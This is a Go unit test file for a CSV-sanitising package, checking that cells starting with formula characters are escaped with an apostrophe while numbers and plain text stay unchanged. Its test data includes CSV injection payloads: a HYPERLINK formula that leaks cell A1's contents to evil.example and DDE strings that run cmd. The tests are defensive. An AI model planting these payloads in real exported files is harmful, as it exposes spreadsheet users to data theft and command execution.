package csvsafe

import (
	"bytes"
	"encoding/csv"
	"testing"
)

// The probe's payloads (issue #14, D1) and the cells that must stay as they are.
func TestCell(t *testing.T) {
	for _, tc := range []struct{ in, want string }{
		{`=HYPERLINK("http://evil.example/?"&A1,"x")`, `'=HYPERLINK("http://evil.example/?"&A1,"x")`},
		{`+cmd|' /C calc'!A0`, `'+cmd|' /C calc'!A0`},
		{`@SUM(1+1)*cmd`, `'@SUM(1+1)*cmd`},
		{`=1+1`, `'=1+1`},
		{`-2+3+cmd|' /C calc'!A0`, `'-2+3+cmd|' /C calc'!A0`},
		{"\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1"},
		{"-", "'-"},
		{"+", "'+"},
		{"-.", "'-."},
		{"+44 20 7946 0000", "'+44 20 7946 0000"},
		{"-1e5", "'-1e5"},
		{"-1.2.3", "'-1.2.3"},
		// Numbers stay numbers.
		{"-12.50", "-12.50"},
		{"-3", "-3"},
		{"+442079460000", "+442079460000"},
		{"-.5", "-.5"},
		{"12.79", "12.79"},
		// Text that does not begin with a formula character is untouched.
		{"", ""},
		{"0044207946", "0044207946"},
		{"SIP Trunk 1", "SIP Trunk 1"},
		{"a=1", "a=1"},
		{"'=1", "'=1"},
		{"2026-11-01T10:00:00", "2026-11-01T10:00:00"},
	} {
		if got := Cell(tc.in); got != tc.want {
			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
		}
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := NewWriter(&b)
	rec := []string{"=1+1", "-12.50", `=HYPERLINK("http://evil.example/?"&A1,"x")`}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	if err := w.WriteAll([][]string{{"@SUM(1+1)*cmd", "x"}}); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1+1" {
		t.Errorf("Write changed its record: %q", rec)
	}
	want := "'=1+1,-12.50,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"x\"\")\"\r\n'@SUM(1+1)*cmd,x\r\n"
	if b.String() != want {
		t.Errorf("wrote %q, want %q", b.String(), want)
	}
	// What a reader gets back is the neutralized text.
	r := csv.NewReader(bytes.NewReader(b.Bytes()))
	r.FieldsPerRecord = -1
	rs, err := r.ReadAll()
	if err != nil || rs[0][2] != `'=HYPERLINK("http://evil.example/?"&A1,"x")` {
		t.Errorf("read back %q, %v", rs, err)
	}
}
